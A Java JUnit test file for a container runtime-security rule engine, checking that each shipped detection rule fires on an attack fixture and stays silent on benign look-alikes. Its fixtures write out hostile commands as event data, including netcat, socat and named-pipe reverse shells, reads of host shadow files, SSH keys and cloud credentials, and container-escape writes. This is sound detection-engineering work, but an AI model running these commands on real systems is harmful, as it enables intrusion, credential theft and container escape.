package io.keelwatch.rules.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.keelwatch.container.ContainerInfo;
import io.keelwatch.container.Mount;
import io.keelwatch.event.EnrichedEvent;
import io.keelwatch.rules.testing.Ev;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/**
 * One small event fixture per attack the shipped pack covers, and a look-alike benign event that
 * must stay silent. Events carry what the audit records of that syscall carry (see detections.md).
 */
class PackAttackTest {
    static final RuleSet PACK = RuleLoader.loadDefaultPack();
    static final ContainerInfo HOSTFS = Ev.container("debug", "alpine:3.19", List.of(
            new Mount("bind", "/", "/host", true, "rprivate"),
            new Mount("bind", "/srv/data", "/data", true, "rprivate")));

    /** Every rule some fixture of this class made fire: each shipped event rule must be among them. */
    static final Set<String> EVER_FIRED = java.util.concurrent.ConcurrentHashMap.newKeySet();

    static Set<String> fired(EnrichedEvent... events) {
        RuleEngine engine = new RuleEngine(PACK);
        Set<String> out = new TreeSet<>();
        for (EnrichedEvent e : events) {
            engine.evaluate(e).forEach(m -> out.add(m.rule()));
        }
        assertEquals(0, engine.evaluationErrors());
        EVER_FIRED.addAll(out);
        return out;
    }

    static Ev writeOpen(String path) {
        return Ev.syscall("openat").args(-100, 0, 01101).exit(3).path(path);
    }

    static Ev readOpen(String path) {
        return Ev.syscall("openat").args(-100, 0, 0).exit(3).path(path);
    }

    static Ev runcInit(Ev e) {
        return e.comm("runc:[2:INIT]").exe("/");
    }

    // ---- container escape ----

    @Test
    void kernelKnobWrites() {
        assertEquals(Set.of("Kernel knob written from container"), fired(writeOpen("/proc/sys/kernel/core_pattern").inContainer().build()));
        assertEquals(Set.of("Kernel knob written from container"), fired(writeOpen("/proc/sys/fs/binfmt_misc/register").inContainer().build()));
        assertEquals(Set.of(), fired(readOpen("/proc/sys/kernel/core_pattern").inContainer().build()));
        assertEquals(Set.of(), fired(runcInit(writeOpen("/proc/sys/kernel/core_pattern")).inContainer().build()));
    }

    @Test
    void cgroupReleaseAgent() {
        assertEquals(Set.of("Cgroup release_agent or notify_on_release written from container"),
                fired(writeOpen("/tmp/cgrp/release_agent").inContainer().build()));
        assertEquals(Set.of("Cgroup release_agent or notify_on_release written from container"),
                fired(writeOpen("/tmp/cgrp/x/notify_on_release").inContainer().build()));
        assertEquals(Set.of(), fired(writeOpen("/tmp/cgrp/release_agent").build()), "host writes are not container escapes");
    }

    @Test
    void kernelUsermodeHelper() {
        assertEquals(Set.of("Kernel usermode helper runs unexpected program"),
                fired(Ev.exec("/var/lib/docker/overlay2/ab12/diff/cmd", "/cmd").pid(5100, 2).build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/lib/systemd/systemd-coredump", "systemd-coredump").pid(5100, 2).build()));
        assertEquals(Set.of(), fired(Ev.exec("/var/lib/docker/overlay2/ab12/diff/cmd", "/cmd").pid(5100, 1).build()));
    }

    @Test
    void mountsFromContainers() {
        Ev cgroupMount = Ev.syscall("mount").comm("mount").exe("/bin/busybox").argv("mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/mnt")
                .path("/mnt", 040755, "NORMAL").failed(-1, "EPERM");
        assertEquals(Set.of("Filesystem mount from container"), fired(cgroupMount.inContainer().build()));
        assertEquals(Set.of("Filesystem mount from container"), fired(Ev.syscall("fsopen").comm("mount").exe("/usr/bin/mount").inContainer().build()));
        assertEquals(Set.of(), fired(runcInit(Ev.syscall("mount").path("/proc", 040555, "NORMAL")).inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("mount").comm("dockerd").exe("/usr/sbin/dockerd").path("/var/lib/docker/overlay2/x/merged", 040700, "NORMAL").build()));
        Ev disk = Ev.syscall("mount").comm("mount").exe("/bin/busybox").path("/mnt", 040755, "NORMAL").path("/dev/vda", 060660, "NORMAL");
        assertEquals(Set.of("Block device mounted or opened from container", "Filesystem mount from container"), fired(disk.inContainer().build()));
        assertEquals(Set.of("Block device mounted or opened from container"),
                fired(Ev.syscall("openat").args(-100, 0, 0).exit(3).path("/dev/vda", 060660, "NORMAL").comm("dd").exe("/bin/dd").inContainer().build()));
    }

    @Test
    void namespaceEntry() {
        assertEquals(Set.of("Namespace change from container"),
                fired(Ev.syscall("setns").args(3, 0x20000, 0).comm("nsenter").exe("/usr/bin/nsenter").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("setns").args(3, 0x20000, 0).comm("runc:[1:CHILD]").exe("/").inContainer().build()));
        assertEquals(Set.of("nsenter executed in container"),
                fired(Ev.exec("/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh").inContainer().build()));
        assertEquals(Set.of("User namespace created in container"),
                fired(Ev.syscall("unshare").args(0x10000000L, 0, 0).comm("unshare").exe("/usr/bin/unshare").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("unshare").args(0x00020000L, 0, 0).comm("unshare").exe("/usr/bin/unshare").inContainer().build()));
    }

    @Test
    void runtimeSocket() {
        assertEquals(Set.of("Runtime socket used from container"),
                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("app").exe("/srv/app").inContainer().build()));
        assertEquals(Set.of("Runtime socket used from container", "Docker API driven by client tool from container"),
                fired(Ev.syscall("connect").unix("/host/run/containerd/containerd.sock").comm("ctr").exe("/tmp/ctr2").in(HOSTFS).build()));
        assertEquals(Set.of(), fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("docker").exe("/usr/bin/docker").build()));
    }

    @Test
    void kernelModulesPtraceBpfFilelessAudit() {
        assertEquals(Set.of("Kernel module load from container"),
                fired(Ev.syscall("finit_module").failed(-38, "ENOSYS").comm("insmod").exe("/sbin/insmod").inContainer().build()));
        assertEquals(Set.of("Process attached with ptrace from container"),
                fired(Ev.syscall("ptrace").args(16, 1, 0).comm("gdb").exe("/usr/bin/gdb").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("ptrace").args(2, 1, 0).comm("gdb").exe("/usr/bin/gdb").inContainer().build()));
        assertEquals(Set.of("BPF program loaded from container"), fired(Ev.syscall("bpf").args(5, 0, 0).inContainer().build()));
        assertEquals(Set.of("Fileless execution in container"), fired(Ev.exec("/memfd:payload (deleted)", "kworker").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", "init").inContainer().build()));
        assertEquals(Set.of("Audit configuration changed from container"), fired(Ev.exec("/sbin/auditctl", "auditctl", "-D").inContainer().build()));
    }

    @Test
    void runtimeBinaryOverwriteAndRootChange() {
        assertEquals(Set.of("Container runtime binary opened for writing"), fired(writeOpen("/proc/4711/exe").inContainer().build()));
        assertEquals(Set.of("Container runtime binary opened for writing"), fired(writeOpen("/usr/sbin/runc").comm("sh").build()));
        assertEquals(Set.of("Container runtime binary opened for writing"), fired(Ev.syscall("openat").args(-100, 0, 01)
                .path("/proc/self/exe").failed(-26, "ETXTBSY").inContainer().build()), "refused (CVE-2019-5736 while runc runs)");
        assertEquals(Set.of(), fired(writeOpen("/usr/sbin/runc").comm("dpkg").exe("/usr/bin/dpkg").build()));
        assertEquals(Set.of("sysrq-trigger written from container"), fired(writeOpen("/proc/sysrq-trigger").inContainer().build()));
        assertEquals(Set.of("chroot or pivot_root from container"),
                fired(Ev.syscall("chroot").path("/host", 040755, "NORMAL").comm("chroot").exe("/usr/sbin/chroot").in(HOSTFS).build()));
    }

    // ---- crypto-mining ----

    @Test
    void miners() {
        assertEquals(Set.of("Known crypto-miner executed"), fired(Ev.exec("/usr/local/bin/xmrig", "xmrig").inContainer().build()));
        assertEquals(Set.of("Known crypto-miner executed"),
                fired(Ev.exec("/bin/busybox", "xmrig").comm("exe").inContainer().build()), "busybox hides the name in argv[0]");
        assertEquals(Set.of("Known crypto-miner executed", "Executable run from temporary or hidden path in container"),
                fired(Ev.exec("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi").inContainer().build()));
        assertEquals(Set.of("Mining pool arguments in command line"),
                fired(Ev.exec("/opt/app/node", "node", "-o", "stratum+tcp://pool.example.com:3333", "-u", "4AB").inContainer().build()));
        assertEquals(Set.of("Mining pool arguments in command line"),
                fired(Ev.exec("/usr/bin/sh", "sh", "-c", "echo c3RyYXR1bSt0Y3A6Ly9wb29s | base64 -d").build()));
        assertEquals(Set.of("Connection to mining pool port from container"),
                fired(Ev.syscall("connect").connect("45.9.148.1", 3333).failed(-115, "EINPROGRESS").comm("node").exe("/opt/app/node").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("connect").connect("10.0.0.5", 3333).comm("node").exe("/opt/app/node").inContainer().build()));
        assertEquals(Set.of("Executable run from temporary or hidden path in container"),
                fired(Ev.exec("/dev/shm/.x/run", "run").inContainer().build()));
        assertEquals(Set.of("Executable run from temporary or hidden path in container"),
                fired(Ev.exec("/var/www/.cache/k", "k").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/python3", "python3", "/tmp/build.py").inContainer().build()));
        assertEquals(Set.of("Miner host tuning command"), fired(Ev.exec("/bin/sh", "sh", "-c", "/sbin/modprobe msr allow_writes=on").build()));
    }

    // ---- host-mount abuse ----

    @Test
    void hostFilesThroughMounts() {
        assertEquals(Set.of("Host file modified through container mount", "Cron job written in container"),
                fired(writeOpen("/host/etc/cron.d/job").comm("sh").in(HOSTFS).build()));
        assertEquals(Set.of("Host file modified through container mount", "SSH authorized_keys modified in container"),
                fired(Ev.syscall("rename").path("/host/root/.ssh", 040700, "PARENT").path("/host/root/.ssh/authorized_keys", 0100600, "CREATE")
                        .comm("mv").exe("/bin/mv").in(HOSTFS).build()));
        assertEquals(Set.of(), fired(writeOpen("/data/out.csv").in(HOSTFS).build()));
        assertEquals(Set.of("Cron job written in container", "Write below etc in container"),
                fired(writeOpen("/etc/cron.d/job").inContainer().build()), "the container's own /etc: not the host's, but persistence");
        assertEquals(Set.of("Host secrets read through container mount"), fired(readOpen("/host/etc/shadow").comm("cat").exe("/bin/cat").in(HOSTFS).build()));
        assertEquals(Set.of("Host secrets read through container mount"), fired(readOpen("/host/home/ann/.ssh/id_ed25519").in(HOSTFS).build()));
        assertEquals(Set.of(), fired(readOpen("/etc/shadow").inContainer().build()));
        assertEquals(Set.of("Host binary executed through container mount"), fired(Ev.exec("/host/bin/bash", "bash").in(HOSTFS).build()));
        assertEquals(Set.of(), fired(Ev.exec("/data/tool", "tool").in(HOSTFS).build()));
    }

    // ---- lateral probing ----

    @Test
    void portScanFiresOnceWhenFifteenPortsAreTriedWithinAMinute() {
        RuleEngine engine = new RuleEngine(PACK);
        int firedAt = -1;
        int fires = 0;
        long t0 = 1_795_529_066_000L;
        for (int port = 1; port <= 40; port++) {
            EnrichedEvent e = Ev.syscall("connect").connect("172.17.0.9", port).failed(-111, "ECONNREFUSED").time(t0 + port * 100L)
                    .comm("nc").exe("/bin/busybox").inContainer().build();
            for (Match m : engine.evaluate(e)) {
                assertEquals("Port scan from container", m.rule());
                EVER_FIRED.add(m.rule());
                fires++;
                firedAt = port;
                assertEquals("15", m.fields().get("window.count"));
            }
        }
        assertEquals(1, fires);
        assertEquals(15, firedAt);
    }

    @Test
    void slowPortProbingStaysBelowTheWindow() {
        RuleEngine engine = new RuleEngine(PACK);
        long t0 = 1_795_529_066_000L;
        int fires = 0;
        for (int port = 1; port <= 40; port++) {
            fires += engine.evaluate(Ev.syscall("connect").connect("172.17.0.9", port).time(t0 + port * 5_000L)
                    .comm("app").exe("/app").inContainer().build()).size();
        }
        assertEquals(0, fires, "12 ports per minute never reach 15 inside one window");
    }

    @Test
    void hostSweep() {
        RuleEngine engine = new RuleEngine(PACK);
        int fires = 0;
        for (int h = 1; h <= 12; h++) {
            for (Match m : engine.evaluate(Ev.syscall("connect").connect("10.0.3." + h, 22).failed(-113, "EHOSTUNREACH")
                    .time(1_795_529_066_000L + h).comm("app").exe("/app").inContainer().build())) {
                assertEquals("Host sweep from container", m.rule());
                EVER_FIRED.add(m.rule());
                fires++;
            }
        }
        assertEquals(1, fires);
    }

    @Test
    void serviceProbesShellsAndTools() {
        assertEquals(Set.of("Cloud metadata service contacted from container"),
                fired(Ev.syscall("connect").connect("169.254.169.254", 80).comm("wget").exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of("Docker API port contacted from container"),
                fired(Ev.syscall("connect").connect("172.17.0.1", 2375).comm("app").exe("/app").inContainer().build()));
        assertEquals(Set.of("Kubernetes control-plane port contacted from container"),
                fired(Ev.syscall("connect").connect("10.0.0.1", 10250).comm("app").exe("/app").inContainer().build()));
        assertEquals(Set.of("Reverse shell tool in container"), fired(Ev.exec("/usr/bin/nc", "nc", "-e", "/bin/sh", "1.2.3.4", "9001").inContainer().build()));
        assertEquals(Set.of("Reverse shell tool in container"),
                fired(Ev.exec("/usr/bin/socat", "socat", "TCP:1.2.3.4:9001", "EXEC:/bin/sh").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/nc", "nc", "-z", "db", "5432").inContainer().build()));
        assertEquals(Set.of("Shell connected to network from container"),
                fired(Ev.syscall("connect").connect("1.2.3.4", 9001).comm("bash").exe("/bin/bash").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("connect").connect("172.17.0.2", 8080).comm("wget").exe("/bin/busybox").inContainer().build()));
        // connect, dup2, execve /bin/sh in the same pid: the shell talks over the connection
        assertEquals(Set.of("Shell started over a network connection in container"),
                fired(Ev.exec("/bin/sh", "sh", "-i").execPeer("10.0.0.9:4444").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/bin/sh", "sh", "-c", "make").inContainer().build()));
        assertEquals(Set.of("Network scanner or sniffer in container"), fired(Ev.exec("/usr/bin/nmap", "nmap", "-p-", "10.0.0.0/24").inContainer().build()));
        assertEquals(Set.of("Container or cluster client in container"), fired(Ev.exec("/usr/local/bin/kubectl", "kubectl", "get", "secrets").inContainer().build()));
        assertEquals(Set.of("Raw or packet socket opened in container"), fired(Ev.syscall("socket").args(17, 3, 0x300).comm("tcpdump").exe("/usr/sbin/tcpdump").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("socket").args(2, 3, 1).comm("ping").exe("/bin/busybox").argv("ping", "-c1", "h").inContainer().build()));
        // runc init opens an AF_NETLINK SOCK_RAW socket at every container start: not a network raw socket
        assertEquals(Set.of(), fired(Ev.syscall("socket").args(16, 0x80003, 0).comm("runc:[2:INIT]").exe("/").inContainer().build()));
        assertEquals(Set.of("Raw or packet socket opened in container"),
                fired(Ev.syscall("socket").args(2, 0x80003, 6).comm("nmap").exe("/usr/bin/nmap").inContainer().build()));
    }

    // ---- runtime threats ----

    static final ContainerInfo RO_HOST = Ev.container("ro", "app:1", List.of(
            new Mount("bind", "/etc", "/hostetc", false, "rprivate"),
            new Mount("bind", "/var/log", "/hostlog", false, "rprivate")));

    @Test
    void runtimeBaselineDrift() {
        assertEquals(Set.of("Drop and execute new binary in container"),
                fired(Ev.exec("/app/implant", "/app/implant", "-d").upperLayer().inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/python3", "python3", "app.py").inContainer().build()), "from the image");
        assertEquals(Set.of(), fired(Ev.exec("/usr/local/bin/tool", "tool").upperLayer().build()), "a host process has no layers");
        ContainerInfo buildStep = Ev.container("angry_mclean", "sha256:ea6c3f0083a66374335c998a2fca94f0981bb64bff87db54be10892d8e2e9a1c",
                List.of());
        assertEquals(Set.of(), fired(Ev.exec("/app/build/tool", "tool").upperLayer().in(buildStep).build(),
                Ev.syscall("fchmodat").args(-100, 0, 0755).path("/app/run.sh", 0100644, "NORMAL").comm("chmod")
                        .exe("/bin/busybox").in(buildStep).build()), "a docker build step makes the image");
        assertEquals(Set.of("File made executable in container"),
                fired(Ev.syscall("fchmodat").args(-100, 0, 0755).path("/tmp/payload", 0100644, "NORMAL").comm("chmod")
                        .exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("fchmodat").args(-100, 0, 0755).path("/data", 040755, "NORMAL").comm("chmod")
                .exe("/bin/busybox").inContainer().build()), "a directory's x bit is search permission");
        assertEquals(Set.of(), fired(Ev.syscall("fchmodat").args(-100, 0, 0755).path("/tmp/payload", 0100644, "NORMAL")
                .failed(-1, "EPERM").comm("chmod").exe("/bin/busybox").inContainer().build()), "refused");
        assertEquals(Set.of("Setuid or setgid bit set in container", "File made executable in container"),
                fired(Ev.syscall("chmod").args(0, 04755, 0).path("/tmp/rootsh", 0100755, "NORMAL").comm("chmod")
                        .exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of("Setuid or setgid bit set in container"),
                fired(Ev.syscall("chmod").args(0, 02644, 0).path("/srv/x", 0100644, "NORMAL").comm("chmod")
                        .exe("/bin/busybox").inContainer().build()));
    }

    @Test
    void runtimeBaselineSessionsPackagesAndWrites() {
        assertEquals(Set.of("Terminal shell in container"),
                fired(Ev.exec("/bin/bash", "bash").tty("pts0").parent("runc", "/usr/bin/runc", "runc", "exec").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/bin/bash", "bash").tty("pts0").parent("sh", "/bin/sh", "sh").inContainer().build()),
                "a shell from a shell is the same session");
        assertEquals(Set.of(), fired(Ev.exec("/bin/sh", "sh", "-c", "healthcheck").inContainer().build()), "no terminal");
        assertEquals(Set.of("Package management process launched in container"),
                fired(Ev.exec("/sbin/apk", "apk", "add", "nmap").inContainer().build()));
        assertEquals(Set.of("Package management process launched in container"),
                fired(Ev.exec("/usr/bin/pip3", "pip3", "install", "requests").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/dpkg", "dpkg", "-i", "x.deb").parent("apt-get", "/usr/bin/apt-get",
                "apt-get", "install", "x").inContainer().build()), "one report per install, for the package manager itself");
        assertEquals(Set.of("Write below etc in container"),
                fired(writeOpen("/etc/passwd").comm("sh").exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of(), fired(writeOpen("/etc/passwd").comm("apk").exe("/sbin/apk").inContainer().build()));
        assertEquals(Set.of(), fired(readOpen("/etc/passwd").comm("cat").exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of("Write below binary dir in container"),
                fired(writeOpen("/usr/bin/ls").comm("cp").exe("/bin/busybox").inContainer().build()));
        assertEquals(Set.of(), fired(writeOpen("/usr/bin/ls").comm("cp").exe("/bin/busybox").build()), "the host's, not a container's");
    }

    @Test
    void persistence() {
        assertEquals(Set.of("Cron job written in container", "Write below etc in container"),
                fired(writeOpen("/etc/cron.d/job").comm("sh").exe("/bin/sh").inContainer().build()),
                "the container's own /etc: a job there runs when the image's cron does");
        assertEquals(Set.of("Cron job written in container"),
                fired(Ev.exec("/usr/bin/crontab", "crontab", "/tmp/jobs").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/crontab", "crontab", "-l").inContainer().build()), "listing is not installing");
        assertEquals(Set.of(), fired(writeOpen("/etc/cron.d/logrotate").comm("dpkg").exe("/usr/bin/dpkg").inContainer().build()));
        assertEquals(Set.of("SSH authorized_keys modified in container"),
                fired(writeOpen("/root/.ssh/authorized_keys").comm("sh").exe("/bin/sh").inContainer().build()));
        assertEquals(Set.of(), fired(readOpen("/root/.ssh/authorized_keys").comm("sshd").exe("/usr/sbin/sshd").inContainer().build()));
    }

    @Test
    void credentialReads() {
        String token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
        assertEquals(Set.of("Service account token read by shell or file tool in container"),
                fired(readOpen(token).comm("cat").exe("/bin/cat").inContainer().build()));
        assertEquals(Set.of(), fired(readOpen(token).comm("operator").exe("/usr/local/bin/operator").inContainer().build()),
                "the application the token was mounted for");
        assertEquals(Set.of("Cloud credential file read by shell or file tool in container"),
                fired(readOpen("/root/.aws/credentials").comm("cat").exe("/bin/cat").inContainer().build()));
        assertEquals(Set.of(), fired(readOpen("/root/.aws/credentials").comm("app").exe("/srv/app").inContainer().build()));
    }

    @Test
    void logAndHistoryClearing() {
        assertEquals(Set.of("Log files cleared in container"),
                fired(Ev.syscall("openat").args(-100, 0, 01001).exit(3).path("/var/log/app.log").comm("sh").exe("/bin/sh").inContainer().build()));
        assertEquals(Set.of("Log files cleared in container"),
                fired(Ev.syscall("unlinkat").args(-100, 0, 0).path("/var/log", 040755, "PARENT").path("/var/log/auth.log", 0100640, "DELETE")
                        .comm("rm").exe("/bin/rm").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 02101).exit(3).path("/var/log/app.log").comm("app").exe("/srv/app")
                .inContainer().build()), "appending to a log");
        assertEquals(Set.of("Shell history cleared in container"),
                fired(Ev.syscall("unlinkat").args(-100, 0, 0).path("/root", 040700, "PARENT").path("/root/.ash_history", 0100600, "DELETE")
                        .comm("rm").exe("/bin/rm").inContainer().build()));
        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 02101).exit(3).path("/root/.ash_history").comm("sh").exe("/bin/sh")
                .inContainer().build()), "a shell appending its history");
    }

    @Test
    void writesRefusedByReadOnlyHostMounts() {
        assertEquals(Set.of("Write refused by read-only host mount in container"),
                fired(Ev.syscall("openat").args(-100, 0, 01101).failed(-30, "EROFS").path("/hostetc/cron.d/job").comm("sh").exe("/bin/sh")
                        .in(RO_HOST).build()));
        assertEquals(Set.of(), fired(readOpen("/hostetc/passwd").comm("sh").exe("/bin/sh").in(RO_HOST).build()));
        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 01101).failed(-13, "EACCES").path("/hostlog/app.log").comm("sh")
                .exe("/bin/sh").in(RO_HOST).build()), "refused for another reason");
    }

    @Test
    void dockerApiAndPipedShells() {
        assertEquals(Set.of("Docker API driven by client tool from container", "Runtime socket used from container"),
                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("curl").exe("/usr/bin/curl").inContainer().build()));
        assertEquals(Set.of("Runtime socket used from container"),
                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("traefik").exe("/traefik").inContainer().build()),
                "the application the socket was mounted for: exposure, not use by a person");
        assertEquals(Set.of("Shell piped to network tool in container"),
                fired(Ev.exec("/bin/sh", "sh").pid(300, 200).inContainer().build(),
                        Ev.syscall("connect").connect("172.17.0.1", 4444).comm("nc").exe("/bin/nc").pid(301, 200).inContainer().build()));
        assertEquals(Set.of(), fired(Ev.exec("/bin/sh", "sh").pid(300, 200).inContainer().build(),
                Ev.exec("/bin/sh", "sh", "-c", "ls").pid(301, 200).inContainer().build()), "two shells are one kind");
        assertEquals(Set.of("Named pipe reverse shell in container"),
                fired(Ev.exec("/bin/nc", "nc", "10.0.0.9", "4444").parent("sh", "/bin/sh", "sh", "-c",
                        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 4444 > /tmp/f").inContainer().build()));
    }

    @AfterAll
    static void checkEveryEventRuleFired() {
        // keeps this file honest: each shipped event rule needs a fixture here that makes it fire
        Set<String> missing = new TreeSet<>();
        PACK.rules().stream().filter(r -> r.source() == io.keelwatch.rules.fields.Source.SYSCALL).forEach(r -> missing.add(r.name()));
        missing.removeAll(EVER_FIRED);
        assertEquals(Set.of(), missing, "shipped event rules no fixture in PackAttackTest makes fire");
    }
}
